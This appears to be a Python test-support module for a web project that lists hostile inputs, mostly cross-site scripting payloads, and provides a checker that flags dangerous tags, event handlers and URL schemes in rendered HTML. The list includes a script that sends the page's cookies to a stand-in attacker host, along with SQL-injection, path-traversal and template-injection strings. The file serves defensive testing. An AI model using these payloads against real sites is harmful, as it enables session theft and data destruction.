"""A corpus of hostile strings, and a checker for the HTML that shows them.

Imported by the quality tests (not a test module itself).
"""

from html.parser import HTMLParser

HUGE = "Habitat participatif " * 10_000  # 210,000 characters

HOSTILE = [
    # Script tags and their disguises.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(document.cookie)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<script>fetch('http://evil.example/?c='+document.cookie)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr\x00ipt>alert(1)</script>",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>survol</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=# onclick=alert(1)>clic</a>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    # javascript: and data: links, in Markdown and in HTML.
    "[clic](javascript:alert(1))",
    "[clic](JaVaScRiPt:alert(1))",
    "[clic](javascript&#58;alert(1))",
    "[clic](&#106;avascript:alert(1))",
    "[clic](  javascript:alert(1))",
    "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![image](javascript:alert(1))",
    "![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[clic](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">lien</a>',
    '<a href="data:text/html,<script>alert(1)</script>">lien</a>',
    '<a href="jav&#x09;ascript:alert(1)">lien</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><button>Envoyer</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # SVG.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # CSS expressions.
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">faux</p>',
    # Template and injection lookalikes.
    "{{ 7*7 }} {% debug %}",
    "${7*7} #{7*7}",
    "'; DROP TABLE projects_project; --",
    "../../../../etc/passwd",
    # Unicode direction marks, invisible and odd characters.
    "\u202eelbisivni\u202c texte retourné",
    "abc\u200b\u200c\u200d\u2060def",
    "\u2066isolat\u2069 \u200f\u200e",
    "Z̸̢̛a̶l̷g̴o̵ ̶t̷e̸x̵t̶",
    "\ufeffBOM au début",
    # NUL bytes and control characters.
    "nul\x00byte",
    "\x00\x01\x02\x03\x1b[31mrouge\x1b[0m",
    "ligne\r\nCRLF\rCR\x0bVT\x0cFF",
    # Emoji and non-Latin scripts.
    "Habitat 🏡🌱👩‍👩‍👧‍👦 ensemble 🇫🇷",
    "Écolieu Œuvre « Cœur » — l’Oasis",
    "مرحبا بالعالم",
    "日本語のテキスト",
    "𝕳𝖆𝖇𝖎𝖙𝖆𝖙",
    # Sizes.
    "",
    " ",
    "a" * 1001,
    HUGE,
]

FORBIDDEN_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "style",
    "base",
    "meta",
    "link",
    "form",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:text", "data:image/svg")


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def dangerous_markup(html: str, *, allow_page_chrome: bool = False) -> list[str]:
    """What in `html` could run script, load elsewhere, or restyle the page.

    With allow_page_chrome, the page's own <script src="/static/..."> and
    <link href="/static/..."> and <meta>, <form action="/..."> are allowed.
    """
    collector = _Collector()
    collector.feed(html)
    found = []
    for tag, attrs in collector.elements:
        names = {name.lower(): (value or "") for name, value in attrs}
        if tag in FORBIDDEN_TAGS:
            if allow_page_chrome and _own_chrome(tag, names):
                pass
            else:
                found.append(f"<{tag} {names}>")
        for name, value in names.items():
            if name.startswith("on"):
                found.append(f"<{tag} {name}={value!r}>")
            if name == "style":
                found.append(f"<{tag} style={value!r}>")
            if name in URL_ATTRIBUTES:
                cleaned = "".join(value.split()).lower()
                if cleaned.startswith(BAD_SCHEMES):
                    found.append(f"<{tag} {name}={value!r}>")
                if (
                    tag not in {"a"}
                    and cleaned.startswith(("http:", "https:", "//"))
                    and "127.0.0.1" not in cleaned
                    and "localhost" not in cleaned
                ):
                    found.append(f"<{tag} {name}={value!r}> (external load)")
    return found


def _own_chrome(tag, attrs):
    if tag == "script" and attrs.get("type") == "application/json":
        return "src" not in attrs  # json_script: data, escaped, never run
    if tag == "base":
        return "href" not in attrs  # <base target="_blank"> in embeds
    if tag == "script":
        return attrs.get("src", "").startswith("/") and not attrs.get(
            "src", ""
        ).startswith("//")
    if tag == "link":
        return attrs.get("href", "").startswith("/") and not attrs.get(
            "href", ""
        ).startswith("//")
    if tag == "meta":
        return "http-equiv" not in attrs or attrs["http-equiv"].lower() != "refresh"
    if tag == "form":
        action = attrs.get("action", "")
        return action == "" or (action.startswith("/") and not action.startswith("//"))
    if tag == "svg":
        return True  # our icons; their content is checked like any element
    return False
